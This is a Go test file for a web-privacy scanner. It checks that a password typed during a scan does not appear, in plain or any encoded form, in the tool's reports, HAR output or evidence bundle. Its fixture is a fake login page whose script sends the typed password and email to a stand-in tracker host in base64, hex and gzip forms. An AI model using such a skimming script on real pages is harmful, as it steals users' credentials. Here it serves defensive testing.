package main

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"html"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/leakwatch/leakwatch/internal/audit"
	"github.com/leakwatch/leakwatch/internal/browser/browsertest"
	"github.com/leakwatch/leakwatch/internal/report"
)

// secretScanPage is a login form whose password field says nothing of
// itself in its selector (#k) and a script that sends the typed password
// to a third party base64-, hex- and gzip-encoded, alone and inside a
// JSON payload with the persona's email.
const secretScanPage = `<!doctype html>
<title>login</title>
<input id="user" name="user" type="email">
<input id="k" name="k" type="password">
<button id="go" type="button">log in</button>
<script>
document.getElementById("go").onclick = async () => {
  const pw = document.getElementById("k").value;
  const user = document.getElementById("user").value;
  const hex = Array.from(new TextEncoder().encode(pw)).map((b) => b.toString(16).padStart(2, "0")).join("");
  const payload = JSON.stringify({u: user, p: pw});
  const b64url = btoa(payload).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
  const t = "http://tracker.test";
  await fetch(t + "/c?e=" + encodeURIComponent(user) + "&b=" + encodeURIComponent(btoa(pw)) + "&h=" + hex + "&j=" + b64url);
  await fetch(t + "/b64?e=" + encodeURIComponent(user), {method: "POST", body: btoa(payload)});
  await fetch(t + "/hex?e=" + encodeURIComponent(user), {method: "POST", body: hex.toUpperCase()});
  try {
    const gz = await new Response(new Blob([payload]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer();
    const b64gz = btoa(String.fromCharCode(...new Uint8Array(gz)));
    await fetch(t + "/gzb64?e=" + encodeURIComponent(user), {method: "POST", body: b64gz});
    await fetch(t + "/gz?e=" + encodeURIComponent(user), {method: "POST", body: gz});
  } catch (e) {}
  document.title = "sent";
};
</script>`

// secretForms are the forms of a password a reader could search an output
// for.
func secretForms(pw string) map[string]string {
	q, _ := json.Marshal(pw)
	return map[string]string{
		"plain": pw, "base64": base64.StdEncoding.EncodeToString([]byte(pw)),
		"base64 unpadded": base64.RawStdEncoding.EncodeToString([]byte(pw)),
		"base64url":       base64.RawURLEncoding.EncodeToString([]byte(pw)),
		"hex":             hex.EncodeToString([]byte(pw)), "HEX": strings.ToUpper(hex.EncodeToString([]byte(pw))),
		"URL-encoded": url.QueryEscape(pw), "URL-encoded twice": url.QueryEscape(url.QueryEscape(pw)),
		"JSON-escaped": strings.Trim(string(q), `"`), "HTML-escaped": html.EscapeString(pw),
	}
}

// secretScanChromium skips with -short, and without Chromium (failing
// under CI, as every browser test does through browsertest).
func secretScanChromium(t *testing.T) {
	t.Helper()
	if testing.Short() {
		t.Skip("browser test: skipped with -short")
	}
	browsertest.Chromium(t)
}

// b64Run finds base64 runs long enough to hold a gzip stream.
var b64Run = regexp.MustCompile(`[A-Za-z0-9+/_-]{24,}={0,2}`)

// gunzippedHolds reports whether a base64 run of data is gzip holding s.
func gunzippedHolds(data []byte, s string) bool {
	for _, run := range b64Run.FindAll(data, -1) {
		t := strings.TrimRight(string(run), "=")
		raw, err := base64.RawStdEncoding.DecodeString(t)
		if err != nil {
			raw, err = base64.RawURLEncoding.DecodeString(t)
		}
		if err != nil || len(raw) < 2 || raw[0] != 0x1f || raw[1] != 0x8b {
			continue
		}
		zr, err := gzip.NewReader(bytes.NewReader(raw))
		if err != nil {
			continue
		}
		text, _ := io.ReadAll(zr)
		if bytes.Contains(text, []byte(s)) {
			return true
		}
	}
	return false
}

// TestScanTypedPasswordInNoOutput scans a page that sends the typed
// password encoded to a third party: the password is in no output format,
// not in --har-out, not in any file of the evidence bundle, in plain or in
// any encoded form, while the tracker requests stay in the report.
func TestScanTypedPasswordInNoOutput(t *testing.T) {
	secretScanChromium(t)
	const pw = "Tr0ub4dor&3-horse"
	var mu sync.Mutex
	var hits []string
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Host == "shop.test" {
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, secretScanPage)
			return
		}
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		hits = append(hits, r.URL.RequestURI()+" "+string(body))
		mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.WriteHeader(http.StatusNoContent)
	})}
	go srv.Serve(ln)
	defer srv.Close()

	dir := t.TempDir()
	steps := filepath.Join(dir, "steps.yaml")
	doc := "- goto: http://shop.test/login\n- type: {selector: \"#user\", text: \"erika.mustermann@example.com\"}\n" +
		"- type: {selector: \"#k\", text: \"" + pw + "\"}\n- click: \"#go\"\n- wait: 2s\n"
	persona := filepath.Join(dir, "persona.yaml")
	if err := os.WriteFile(steps, []byte(doc), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(persona, []byte("email: erika.mustermann@example.com\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	out, harOut, bundle := filepath.Join(dir, "report.json"), filepath.Join(dir, "scan.har"), filepath.Join(dir, "evidence.zip")
	code, _, stderr := runCmd(t, "", "scan", "--steps", steps, "--persona", persona, "-o", out, "--har-out", harOut,
		"--evidence", bundle, "--depth", "0", "--browser-arg=--host-resolver-rules=MAP * "+ln.Addr().String())
	if code != 0 {
		t.Fatalf("exit %d:\n%s", code, stderr)
	}
	mu.Lock()
	sent := strings.Join(hits, "\n")
	mu.Unlock()
	if !strings.Contains(sent, hex.EncodeToString([]byte(pw))) || !strings.Contains(sent, "/gzb64") {
		t.Fatalf("the page did not send the password encoded:\n%s", sent)
	}
	outputs := map[string][]byte{"stderr": []byte(stderr)}
	for _, p := range []string{out, harOut} {
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		outputs[filepath.Base(p)] = data
	}
	var rep audit.Report
	if err := json.Unmarshal(outputs["report.json"], &rep); err != nil {
		t.Fatal(err)
	}
	for _, format := range report.Formats() {
		var buf bytes.Buffer
		if err := report.Render(&buf, &rep, format, report.Options{Verbose: true}); err != nil {
			t.Fatal(err)
		}
		outputs["format "+format] = buf.Bytes()
	}
	zr, err := zip.OpenReader(bundle)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		data, _ := io.ReadAll(rc)
		rc.Close()
		outputs["bundle "+f.Name] = data
	}
	forms := secretForms(pw)
	for name, data := range outputs {
		for form, v := range forms {
			if bytes.Contains(data, []byte(v)) {
				t.Errorf("%s holds the password (%s)", name, form)
			}
		}
		if gunzippedHolds(data, pw) {
			t.Errorf("%s holds the password in base64 of gzip", name)
		}
	}
	if !strings.Contains(string(outputs["report.json"]), "tracker.test/b64") {
		t.Errorf("the tracker requests are gone from the report")
	}
}
